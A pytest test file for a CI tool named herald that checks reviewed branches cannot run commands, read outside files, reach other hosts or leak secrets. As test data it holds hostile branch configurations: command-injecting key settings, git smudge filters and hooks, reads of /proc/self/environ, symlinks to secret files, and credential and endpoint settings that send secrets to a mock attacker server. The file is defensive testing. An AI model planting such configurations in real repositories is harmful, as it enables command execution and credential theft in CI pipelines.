"""Branches that try to run commands, read files, reach a server or show secrets when they are reviewed.

`Documentation/Guide/CI/README.md` states what a branch cannot do. Each sentence has a test:

| sentence | test |
| --- | --- |
| a command needs `--allow-commands` | `key command`, `previous key command`; test_trust: test_commands_need_consent |
| lists, keys, credentials and certificates outside of the project, and links to them, need `--allow-path` | `list …`, `linked …`, `key file outside`, `credential outside`, `authority outside`, `environment as a list`; test_trust: test_files_outside_of_the_project_need_consent, test_a_link_does_not_bring_a_list_into_the_project |
| so does a link in place of the folder of states | `linked state folder` |
| other hosts need `--allow-host` | test_trust: test_identities_go_only_to_google_this_machine_and_allowed_hosts |
| a variable's value needs `--allow-variable` | `… with a secret`, `text`; test_trust: test_the_value_of_a_variable_is_not_shown |
| the plan file contains the project ID, but no other variable | test_a_plan_file_has_the_project_id_and_no_other_variable |
| `SSLKEYLOGFILE` needs `--allow-key-log` | test_orderly_exit: test_tls_keys_are_written_only_on_request |
| the refusal prints the option, and exits with 6 or 65 | REFUSED |
| the run's record names the consents | test_trust: test_consents_are_recorded_with_the_run |
| trust.yaml allows the same for one project | test_consent_reaches_the_review; test_trust: test_the_file_is_about_one_project and others |
| only the user and root may be able to write that file | test_trust: test_a_file_that_others_can_change_is_refused |
| whatever is allowed: no credential in the project or in Git | NEVER; test_trust: test_a_credential_in_the_project_is_refused_for_fcm, test_a_credential_that_git_contains_is_refused |
| whatever is allowed: no identity from a file, a server or a program | NEVER: `federation …` |
| whatever is allowed: no link in place of a state or of the running emulator | NEVER: `linked state`, `running emulator` |
| whatever is allowed: no filter, hook or monitor | test_the_repositorys_git_configuration_starts_nothing; test_history: test_hostile_repository_runs_no_commands |
| a merged branch sends messages, within the guards | test_ci: test_plans_a_pull_request_and_applies_its_merge, test_guard_refusal_is_a_warning_and_an_output |
"""

import json
import os
import re
import shutil
import socket
import subprocess
import threading

import pytest

from herald import DEADLINE, Result, variables
from test_ci import Repository, emulator, git, github, pull_request, root  # noqa: F401 (fixtures)

# The value of a variable in the job's environment. The host name would show it in lowercase.
SECRET_VALUE = "Hunter2Correct-Horse-Battery"
# 32 bytes in base64.
STATE_KEY = "MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE="
# The content of a file outside of the checkout.
FILE_SECRET = "opensesame-4711"


class Attacker:
    """A server that counts connections, on an address that is loopback in fact but not by name."""

    def __init__(self):
        self.connections = 0
        self.socket = socket.create_server(("127.0.0.2", 0))
        self.port = self.socket.getsockname()[1]
        self.url = f"https://127.0.0.2:{self.port}"
        threading.Thread(target=self.count, daemon=True).start()

    def count(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


@pytest.fixture
def repository(tmp_path, emulator):  # noqa: F811
    return Repository(tmp_path, emulator)


@pytest.fixture
def scene(repository, tmp_path):
    """A repository with a list and a campaign, a secret file outside of it, and an attacker."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text(FILE_SECRET + "\n")
    (outside / "secret").chmod(0o600)
    (outside / "list.txt").write_text(f"{FILE_SECRET}\n")
    attacker = Attacker()
    yield repository, outside, attacker
    attacker.socket.close()


def yaml(environment):
    return f"version: 1\nproject: e2e\ntopics: {{ tides: {{}} }}\nenvironments: {{ staging: {environment} }}\n"


def fcm(credentials, more=""):
    return yaml(f"{{ fcm: {{ project_id: harbour-b5ae1, credentials: {credentials}{more} }} }}")


def external_account(outside, attacker, source):
    return json.dumps({
        "type": "external_account", "audience": "//iam.googleapis.com/projects/1/x", "subject_token_type": "jwt",
        "token_url": attacker.url + "/token", "credential_source": source})


def service_account(attacker):
    return json.dumps({
        "type": "service_account", "client_email": "a@b.iam.gserviceaccount.com", "private_key_id": "1",
        "private_key": "x", "project_id": "harbour-b5ae1", "token_uri": attacker.url + "/token"})


def encryption(key):
    return yaml(f"{{ emulator: {{}}, state: {{ encryption: {{ {key} }} }} }}")


def write(project, outside, attacker, files):
    for name, text in files.items():
        project.write(name, text)


def listed(path):
    return {"campaigns/x.yaml": f"campaign: x\naudience: {{ registrations: '{path}' }}\n"
            "message: { notification: { title: x } }\n"}


def link(project, name, target):
    path = project.folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)


BRANCHES = {
    "key command": lambda p, o, a: p.write("herald.yaml", encryption("key: 'command:touch pwned; echo $SECRET'")),
    "previous key command": lambda p, o, a: p.write(
        "herald.yaml", encryption("key: 'command:touch pwned', previous: env:STATE_KEY")),
    "key file outside": lambda p, o, a: p.write("herald.yaml", encryption(f"key: '{o}/secret'")),
    "key in a variable": lambda p, o, a: p.write("herald.yaml", encryption("key: env:SECRET")),
    "federation file": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"),
        "robot.json": external_account(o, a, {"file": f"{o}/secret"})}),
    "federation url": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"),
        "robot.json": external_account(o, a, {"url": a.url + "/identity"})}),
    "credential outside": lambda p, o, a: p.write("herald.yaml", fcm(f"'{o}/secret'")),
    "service account": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"), "robot.json": service_account(a)}),
    "credential in a variable": lambda p, o, a: p.write("herald.yaml", fcm("env:SECRET")),
    "credential path": lambda p, o, a: p.write("herald.yaml", fcm("'${SECRET}.json'")),
    "endpoint": lambda p, o, a: p.write("herald.yaml", fcm("application-default", f", endpoint: '{a.url}'")),
    "endpoint with a secret": lambda p, o, a: p.write(
        "herald.yaml", fcm("application-default", ", endpoint: 'https://${SECRET}.example'")),
    "project with a secret": lambda p, o, a: p.write(
        "herald.yaml", yaml("{ fcm: { project_id: '${SECRET}', credentials: application-default } }")),
    "emulator with a secret": lambda p, o, a: p.write(
        "herald.yaml", yaml(f"{{ emulator: {{ url: '{a.url}/${{SECRET}}' }} }}")),
    "emulator elsewhere": lambda p, o, a: p.write("herald.yaml", yaml(f"{{ emulator: {{ url: '{a.url}' }} }}")),
    "authority outside": lambda p, o, a: p.write(
        "herald.yaml", yaml(f"{{ emulator: {{ url: 'https://127.0.0.1:1', ca: '{o}/secret' }} }}")),
    "list outside": lambda p, o, a: write(p, o, a, listed(f"{o}/list.txt")),
    "list above": lambda p, o, a: write(p, o, a, listed("../outside/list.txt")),
    "environment as a list": lambda p, o, a: write(p, o, a, listed("/proc/self/environ")),
    "linked list": lambda p, o, a: (link(p, "list.txt", o / "list.txt"), write(p, o, a, listed("list.txt"))),
    "linked folder of lists": lambda p, o, a: (link(p, "lists", o), write(p, o, a, listed("lists/list.txt"))),
    "linked campaign": lambda p, o, a: link(p, "campaigns/x.yaml", o / "secret"),
    "linked state folder": lambda p, o, a: (p.write(".gitignore", ""), link(p, ".herald", o)),
    "running emulator": lambda p, o, a: (
        p.write(".gitignore", ""), p.write("herald.yaml", yaml("{ emulator: {} }")),
        p.write(".herald/emulator/running.json", json.dumps({"url": a.url, "pid": 1})),
        link(p, ".herald/emulator/lock", o / "secret")),
    "git filter": lambda p, o, a: (
        p.write(".gitattributes", "* filter=evil\n"), p.write(".gitconfig", '[filter "evil"]\n\tsmudge = touch pwned\n')),
    "federation program": lambda p, o, a: write(p, o, a, {
        "herald.yaml": fcm("robot.json"),
        "robot.json": external_account(o, a, {"executable": {"command": "touch pwned", "timeout_millis": 5000}})}),
    "linked key": lambda p, o, a: (
        link(p, "key.txt", o / "secret"), p.write("herald.yaml", encryption("key: key.txt"))),
    "linked credential": lambda p, o, a: (
        link(p, "robot.json", o / "secret"), p.write("herald.yaml", fcm("robot.json"))),
    "linked certificate": lambda p, o, a: (
        link(p, "ca.pem", o / "secret"), p.write("herald.yaml", yaml("{ emulator: { url: 'https://127.0.0.1:1', ca: ca.pem } }"))),
    "text": lambda p, o, a: p.campaign("spring-tide", "{ topic: tides }", title="$SECRET ${SECRET} {{SECRET}} `touch pwned`"),
    "linked campaigns": lambda p, o, a: (shutil.rmtree(p.folder / "campaigns"), link(p, "campaigns", o)),
    "linked state": lambda p, o, a: (p.write(".gitignore", ""), link(p, ".herald/staging.sqlite", o / "secret")),
}


EXECUTED = re.compile(r'execve\("([^"]+)"')


class Review:
    """A review of a branch in a job whose environment has a secret, and what the review started and wrote."""

    def __init__(self, github, scene, change, trust=None, configure=None, more=None):
        self.repository, self.outside, self.attacker = scene
        project = self.repository.project
        project.campaign("spring-tide", "{ topic: tides }", title="High water")
        change(project, self.outside, self.attacker)
        commit = self.repository.checkout(self.repository.commit("change"))
        if configure:
            configure(self.repository.runner)
        self.before = self.files()
        github.more = {
            "SECRET": SECRET_VALUE, "GOOGLE_APPLICATION_CREDENTIALS": str(self.outside / "none.json"),
            "STATE_KEY": STATE_KEY, "PATH": f"{self.watching(github)}:{github.root / 'bin'}:{os.environ['PATH']}",
            **(more or {})}
        self.environment = github.more
        if trust:
            github.more["XDG_CONFIG_HOME"] = str(self.trusting(github.folder, trust))
        self.done = github.run(pull_request(), commit, environment="staging")
        written = [path for path in github.folder.glob("run-*/**/*") if path.is_file()]
        self.shown = "".join([
            self.done.out, self.done.err, self.done.summary, json.dumps(self.done.outputs),
            json.dumps(github.forge.comments), *(path.read_text(errors="replace") for path in written)])

    def herald(self, *arguments):
        """Runs a command in the checkout, as a later step of the same job."""
        done = subprocess.run(
            [self.trace.parent / "watching/herald", *arguments, "-e", "staging"], cwd=self.repository.runner,
            env=variables() | self.environment, stdin=subprocess.DEVNULL, capture_output=True, text=True,
            timeout=DEADLINE)
        self.shown += done.stdout + done.stderr
        self.last = " ".join((done.stdout + done.stderr).split())
        return Result(done.returncode, done.stdout, done.stderr)

    def files(self):
        return {path: path.read_bytes() for path in self.outside.rglob("*") if path.is_file()}

    def watching(self, github):
        """Returns a folder whose `herald` records every program that the real one starts."""
        folder = github.folder / "watching"
        folder.mkdir()
        self.trace = github.folder / "programs"
        (folder / "herald").write_text(
            "#!/bin/sh\n"
            f"exec strace -f -qq -A -e trace=execve -o '{self.trace}' '{github.root / 'bin/herald'}' \"$@\"\n")
        (folder / "herald").chmod(0o755)
        return folder

    def trusting(self, folder, trust):
        """Writes the operator's file about the runner's checkout."""
        file = folder / "config/herald/trust.yaml"
        file.parent.mkdir(parents=True)
        file.write_text(f"projects:\n  {self.repository.runner.resolve()}:\n    {trust}\n")
        file.chmod(0o600)
        return folder / "config"

    def programs(self):
        """Returns the names of the programs that were started, without `herald` itself and `git`."""
        return [name for name in EXECUTED.findall(self.trace.read_text()) if not name.endswith(("/bin/herald", "/git"))]

    def expect_nothing(self):
        """Checks that the branch got no secret, no byte, no process and no changed file."""
        for secret in (SECRET_VALUE, FILE_SECRET):
            assert secret.lower() not in self.shown.lower(), f"a secret is shown\n{self.done}"
        assert self.attacker.connections == 0
        assert self.programs() == []
        runner = self.repository.runner
        assert not list(runner.rglob("pwned")) and not list(self.outside.rglob("pwned"))
        assert self.files() == self.before
        # `doctor` validates a message without sending it.
        assert [each for each in self.repository.log.sends() if not each["body"].get("validate_only")] == []
        return self


# The branches whose review is refused, with the exit code and, if there is one, the option that allows it.
REFUSED = {
    "key command": (6, "--allow-commands"), "previous key command": (6, "--allow-commands"),
    "key file outside": (6, "--allow-path"), "linked key": (6, "--allow-path"), "linked state folder": (6, "--allow-path"),
    "list outside": (65, "--allow-path"), "list above": (65, "--allow-path"),
    "environment as a list": (65, "--allow-path"), "linked list": (65, "--allow-path"),
    "linked folder of lists": (65, "--allow-path"), "linked campaign": (65, None), "linked campaigns": (65, None),
    "linked state": (1, None), "text": (65, None), "project with a secret": (65, None),
    "emulator with a secret": (65, None), "emulator elsewhere": (65, None), "key in a variable": (1, None),
}
# A review reads neither credentials nor certificates. `herald doctor` refuses these branches.
IN_GIT = "is a credential in the project's Git repository"
REFUSED_BY_DOCTOR = {
    "federation file": IN_GIT, "federation url": IN_GIT, "federation program": IN_GIT, "service account": IN_GIT,
    "credential outside": "--allow-path", "linked credential": "--allow-path", "authority outside": "--allow-path",
    "linked certificate": "--allow-path",
}


@pytest.mark.parametrize("name", BRANCHES)
def test_a_hostile_branch_gets_nothing_from_its_review(github, scene, name):  # noqa: F811
    review = Review(github, scene, BRANCHES[name]).expect_nothing()
    code, option = REFUSED.get(name, (0, None))
    assert review.done.code == code and (option or "") in review.shown, review.done
    assert review.herald("doctor").code == 1 or name not in REFUSED_BY_DOCTOR
    assert REFUSED_BY_DOCTOR.get(name, "") in review.last
    review.herald("apply", "--yes")
    review.expect_nothing()


# The operator's consent to everything that can be allowed.
EVERYTHING = ("--allow-commands", "--allow-path", "/", "--allow-host", "127.0.0.2", "--allow-variable", "OTHER")
NEVER = {
    "federation file": IN_GIT, "federation url": IN_GIT, "federation program": IN_GIT, "service account": IN_GIT,
    "linked state": "it is a symbolic link", "running emulator": "symbolic links",
}


@pytest.mark.parametrize("name", NEVER)
def test_no_consent_allows_what_a_branch_may_never_do(github, scene, name):  # noqa: F811
    review = Review(github, scene, BRANCHES[name])
    found = [review.herald(*command, *EVERYTHING) for command in (["doctor"], ["apply", "--yes"])]
    assert {each.code for each in found} == {1}, found
    assert NEVER[name] in " ".join(" ".join(each.out + each.err for each in found).split())
    review.expect_nothing()


def test_consent_reaches_the_review(github, scene):  # noqa: F811
    """Proves that the tests can fail: an allowed command runs."""
    review = Review(github, scene, BRANCHES["key command"], trust="allow-commands: true")
    assert any(name.endswith("/touch") for name in review.programs())
    assert list(review.repository.runner.rglob("pwned"))


def test_the_repositorys_git_configuration_starts_nothing(github, scene, tmp_path):  # noqa: F811
    hook = tmp_path / "hook"
    mark = tmp_path / "mark"
    hook.write_text(f"#!/bin/sh\ntouch {mark}\n")
    hook.chmod(0o755)
    (tmp_path / "hooks").mkdir()
    for name in ("post-index-change", "post-checkout", "pre-commit", "reference-transaction"):
        (tmp_path / "hooks" / name).symlink_to(hook)

    def configure(runner):
        for key, value in {"core.fsmonitor": hook, "core.hooksPath": tmp_path / "hooks", "filter.evil.clean": hook,
                           "filter.evil.smudge": hook, "filter.evil.process": hook, "diff.external": hook}.items():
            git(runner, "config", key, str(value))

    review = Review(github, scene, BRANCHES["git filter"], configure=configure)
    assert review.done.code == 0
    for command in (["doctor"], ["apply", "--yes"], ["status"]):
        review.herald(*command)
    assert not mark.exists()
    review.expect_nothing()
    # Proves that the test can fail: git itself runs them.
    subprocess.run(["git", "status"], cwd=review.repository.runner, capture_output=True, timeout=DEADLINE)
    assert mark.exists()


def test_a_plan_file_has_the_project_id_and_no_other_variable(github, scene):  # noqa: F811
    def change(project, *_):
        project.write("herald.yaml", fcm("application-default", ", endpoint: 'https://${HOST_NAME}'").replace(
            "harbour-b5ae1", "'${PROJECT}'"))

    review = Review(github, scene, change, more={"PROJECT": "harbour-of-4711", "HOST_NAME": "gate-4712.example"})
    assert review.done.code == 0
    plan = open(review.done.outputs["plan-file"]).read()
    printed = "".join([review.done.out, review.done.err, review.done.summary, json.dumps(github.forge.comments)])
    assert "harbour-of-4711" in plan and "harbour-of-4711" not in printed
    assert "gate-4712" not in plan + printed and "${HOST_NAME}" in plan + printed
